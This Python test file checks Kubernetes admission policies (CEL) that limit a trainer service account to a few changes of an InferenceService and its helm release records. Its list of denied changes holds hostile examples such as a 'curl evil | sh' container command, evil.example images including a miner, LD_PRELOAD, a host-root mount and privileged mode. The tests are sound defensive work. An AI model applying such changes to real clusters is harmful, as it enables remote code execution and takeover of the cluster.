"""The chart's ValidatingAdmissionPolicies (admission-policy.yaml), their CEL run by a real CEL
evaluator (common-expression-language, the cel-interpreter crate) the way the API server runs
them: matchConditions first, then the variables in order, then every validation, with
`object` and `oldObject` as the maps an unstructured object is to CEL.

Old and new objects are the InferenceService the policy chart renders before and after each of
the trainer's real upgrades (services/trainer/promotion.py's values), with what the API server
changes on every write (resourceVersion, generation, managedFields) changed too, and then each
change the trainer must not make.

Not run here: an API server (no cluster); Kubernetes' own CEL libraries are not on PyPI, so
the expressions use only standard CEL (has, in, all, exists, size, startsWith, matches)."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import cel
import pytest

from services.trainer.canary import CanaryConfig
from services.trainer.promotion import ClusterPromoter
from tests.helpers import (
    EXTERNAL,
    NAMESPACE,
    POLICY_CHART,
    POLICY_NAMESPACE,
    RELEASE,
    documents,
    named,
    of_kind,
    render,
    render_policy_raw,
)

TRAINER = f"system:serviceaccount:{NAMESPACE}:rlmf-trainer"
ISVC_POLICY = f"rlmf.{NAMESPACE}.trainer-isvc.rlmf.io"
RECORDS_POLICY = f"rlmf.{NAMESPACE}.trainer-records.rlmf.io"


def _policy(name: str) -> dict[str, Any]:
    return named(render("external-kafka"), "ValidatingAdmissionPolicy", name)


def admit(
    policy: dict[str, Any],
    old: dict[str, Any] | None,
    new: dict[str, Any] | None,
    *,
    user: str = TRAINER,
    operation: str = "UPDATE",
) -> list[str]:
    """The messages of the validations that refuse the request; [] when it is admitted (or
    when a matchCondition leaves the policy out)."""
    request = {"userInfo": {"username": user}, "operation": operation}
    context: dict[str, Any] = {"object": new, "oldObject": old, "request": request}
    for condition in policy["spec"].get("matchConditions", []):
        if cel.evaluate(condition["expression"], context) is not True:
            return []
    variables: dict[str, Any] = {}
    for variable in policy["spec"].get("variables", []):
        variables[variable["name"]] = cel.evaluate(
            variable["expression"], context | {"variables": variables}
        )
    context["variables"] = variables
    refused = []
    for validation in policy["spec"]["validations"]:
        result = cel.evaluate(validation["expression"], context)
        assert isinstance(result, bool), f"{validation['message']}: {result!r}"
        if not result:
            refused.append(validation["message"])
    return refused


def _stored(isvc: dict[str, Any], version: int) -> dict[str, Any]:
    """The object as the API server holds it: what every write changes, and what KServe adds."""
    out = {k: v for k, v in copy.deepcopy(isvc).items() if k != "_template"}
    out["metadata"] |= {
        "namespace": POLICY_NAMESPACE,
        "uid": "5e1c7a4e-0000-4000-8000-000000000001",
        "resourceVersion": str(1000 + version),
        "generation": version,
        "finalizers": ["inferenceservice.finalizers"],
        "managedFields": [{"manager": f"helm-{version}", "operation": "Apply"}],
    }
    out["status"] = {"observedGeneration": version - 1}
    return out


def _isvc(values: dict[str, Any], version: int) -> dict[str, Any]:
    (isvc,) = of_kind(documents(render_policy_raw(values)), "InferenceService")
    return _stored(isvc, version)


PROMOTER = ClusterPromoter(
    release=RELEASE,
    chart=POLICY_CHART,
    namespace=POLICY_NAMESPACE,
    storage_uri=lambda folder: f"pvc://rlmf-models/{folder.name}",
    canary=CanaryConfig(traffic_percent=10),
)
TEACHER = EXTERNAL
CANARY = EXTERNAL | PROMOTER.canary_values(Path("/models/s1"))
PROMOTED = EXTERNAL | PROMOTER.values(Path("/models/s1"))


@pytest.mark.parametrize(
    ("before", "after"),
    [(TEACHER, CANARY), (CANARY, PROMOTED), (CANARY, TEACHER)],
    ids=["canary", "promote", "roll-back"],
)
def test_the_trainers_own_upgrades_are_admitted(
    before: dict[str, Any], after: dict[str, Any]
) -> None:
    """Each step of a promotion, as the policy chart renders it: the model URI and the canary
    percent change, the rlmf.io/ annotations with them."""
    old, new = _isvc(before, 2), _isvc(after, 3)
    assert old["spec"] != new["spec"], "the step changes the object"
    assert admit(_policy(ISVC_POLICY), old, new) == []


def _predictor(isvc: dict[str, Any]) -> dict[str, Any]:
    predictor: dict[str, Any] = isvc["spec"]["predictor"]
    return predictor


def _container(isvc: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = _predictor(isvc)["containers"][0]
    return container


def _set_env(isvc: dict[str, Any], name: str, entry: dict[str, Any]) -> None:
    env = _container(isvc)["env"]
    env[[e["name"] for e in env].index(name)] = {"name": name} | entry


ALLOWED: dict[str, Callable[[dict[str, Any]], None]] = {
    "model URI": lambda o: _set_env(o, "STORAGE_URI", {"value": "pvc://rlmf-models/v9"}),
    "canary percent": lambda o: _predictor(o).update(canaryTrafficPercent=50),
    "canary cleared": lambda o: _predictor(o).pop("canaryTrafficPercent"),
    "rlmf.io annotation": lambda o: o["metadata"]["annotations"].update(
        {"rlmf.io/serving": "teacher", "rlmf.io/promotion": "v9"}
    ),
}

DENIED: dict[str, Callable[[dict[str, Any]], None]] = {
    "image": lambda o: _container(o).update(image="evil.example/shell:latest"),
    "command": lambda o: _container(o).update(command=["sh", "-c", "curl evil | sh"]),
    "args": lambda o: _container(o)["args"].append("--debug"),
    "env added": lambda o: _container(o)["env"].append({"name": "LD_PRELOAD", "value": "/x.so"}),
    "env from a Secret": lambda o: _container(o)["env"].append(
        {"name": "K", "valueFrom": {"secretKeyRef": {"name": "kafka-admin", "key": "password"}}}
    ),
    "another env value": lambda o: _set_env(o, "RLMF_POLICY_RELOAD_ENABLED", {"value": "true"}),
    "STORAGE_URI from a Secret": lambda o: _set_env(
        o, "STORAGE_URI", {"valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}
    ),
    "env removed": lambda o: _container(o)["env"].pop(),
    "volume mounts": lambda o: _container(o)["volumeMounts"].append(
        {"name": "host", "mountPath": "/host"}
    ),
    "volumes": lambda o: _predictor(o)["volumes"].append(
        {"name": "host", "hostPath": {"path": "/"}}
    ),
    "serviceAccountName": lambda o: _predictor(o).update(serviceAccountName="kserve-admin"),
    "container added": lambda o: _predictor(o)["containers"].append(
        {"name": "sidecar", "image": "evil.example/miner"}
    ),
    "container renamed": lambda o: _container(o).update(name="other"),
    "security context": lambda o: _container(o)["securityContext"].update(privileged=True),
    "resources": lambda o: _container(o)["resources"].update(limits={"nvidia.com/gpu": "8"}),
    "node selector": lambda o: _predictor(o).update(nodeSelector={"pool": "trading-gpu"}),
    "min replicas": lambda o: _predictor(o).update(minReplicas=0),
    "another component": lambda o: o["spec"].update(
        transformer={"containers": [{"name": "t", "image": "evil.example/t"}]}
    ),
    "labels": lambda o: o["metadata"]["labels"].update({"app.kubernetes.io/component": "x"}),
    "visibility label dropped": lambda o: o["metadata"]["labels"].pop(
        "networking.kserve.io/visibility"
    ),
    "deployment mode": lambda o: o["metadata"]["annotations"].update(
        {"serving.kserve.io/deploymentMode": "RawDeployment"}
    ),
    "finalizers": lambda o: o["metadata"].update(finalizers=[]),
}


def _after(change: Callable[[dict[str, Any]], None]) -> tuple[dict[str, Any], dict[str, Any]]:
    old = _isvc(CANARY, 2)
    new = _stored(old, 3)  # a write: resourceVersion, generation and managedFields move on
    change(new)
    return old, new


@pytest.mark.parametrize("name", sorted(ALLOWED))
def test_allowed_changes_are_admitted(name: str) -> None:
    old, new = _after(ALLOWED[name])
    assert old != new
    assert admit(_policy(ISVC_POLICY), old, new) == []


@pytest.mark.parametrize("name", sorted(DENIED))
def test_any_other_change_by_the_trainer_is_refused(name: str) -> None:
    old, new = _after(DENIED[name])
    assert admit(_policy(ISVC_POLICY), old, new) != [], f"{name} was admitted"


def test_only_the_trainer_is_held_to_it() -> None:
    """An admin's `helm upgrade` of the policy release may change anything."""
    old, new = _after(DENIED["image"])
    assert admit(_policy(ISVC_POLICY), old, new, user="kubernetes-admin") == []
    other_sa = f"system:serviceaccount:{NAMESPACE}:rlmf-simulator"
    assert admit(_policy(ISVC_POLICY), old, new, user=other_sa) == []


def test_bound_to_the_policy_namespace_and_enforced() -> None:
    docs = render("external-kafka")
    for name in (ISVC_POLICY, RECORDS_POLICY):
        policy = named(docs, "ValidatingAdmissionPolicy", name)
        binding = named(docs, "ValidatingAdmissionPolicyBinding", name)
        selector = {"matchLabels": {"kubernetes.io/metadata.name": POLICY_NAMESPACE}}
        assert policy["spec"]["matchConstraints"]["namespaceSelector"] == selector
        assert binding["spec"]["matchResources"]["namespaceSelector"] == selector
        assert binding["spec"]["policyName"] == name
        assert binding["spec"]["validationActions"] == ["Deny"]
        assert policy["spec"]["failurePolicy"] == "Fail"
    rules = named(docs, "ValidatingAdmissionPolicy", ISVC_POLICY)["spec"]["matchConstraints"]
    assert rules["resourceRules"][0]["resources"] == ["inferenceservices"]


def _configmap(name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": name, "namespace": POLICY_NAMESPACE}
        | ({"labels": labels} if labels is not None else {}),
        "data": {"release": "H4sI..."},
    }


HELM = {"owner": "helm", "name": "rlmf"}
RECORD = _configmap(
    "sh.helm.release.v1.rlmf.v7", {"owner": "helm", "name": "rlmf", "status": "deployed"}
)


@pytest.mark.parametrize(
    ("operation", "old", "new"),
    [
        ("CREATE", None, RECORD),
        ("UPDATE", RECORD, RECORD | {"data": {"release": "H4sIsuperseded"}}),
        ("DELETE", RECORD, None),
    ],
)
def test_trainer_writes_the_policy_releases_records(
    operation: str, old: dict[str, Any] | None, new: dict[str, Any] | None
) -> None:
    assert admit(_policy(RECORDS_POLICY), old, new, operation=operation) == []


@pytest.mark.parametrize(
    ("operation", "old", "new"),
    [
        ("UPDATE", _configmap("kube-root-ca.crt"), _configmap("kube-root-ca.crt")),
        ("CREATE", None, _configmap("rlmf-feast", HELM)),
        ("CREATE", None, _configmap("sh.helm.release.v1.other.v1", HELM | {"name": "other"})),
        ("CREATE", None, _configmap("sh.helm.release.v1.rlmf.v8", {"name": "rlmf"})),
        ("CREATE", None, _configmap("sh.helm.release.v1.rlmf.v8x", HELM)),
        ("DELETE", _configmap("admin-notes"), None),
    ],
    ids=["ca-bundle", "not-a-record", "another-release", "no-owner", "bad-name", "delete-other"],
)  # fmt: skip
def test_trainer_writes_no_other_configmap(
    operation: str, old: dict[str, Any] | None, new: dict[str, Any] | None
) -> None:
    assert admit(_policy(RECORDS_POLICY), old, new, operation=operation) != []


def test_chart_needs_kubernetes_with_admission_policies_v1() -> None:
    """admissionregistration.k8s.io/v1 ValidatingAdmissionPolicy is served from 1.30."""
    import yaml

    from tests.helpers import CHART

    for chart in (CHART, POLICY_CHART):
        meta = yaml.safe_load((chart / "Chart.yaml").read_text())
        assert meta["kubeVersion"] == ">=1.30.0-0", chart
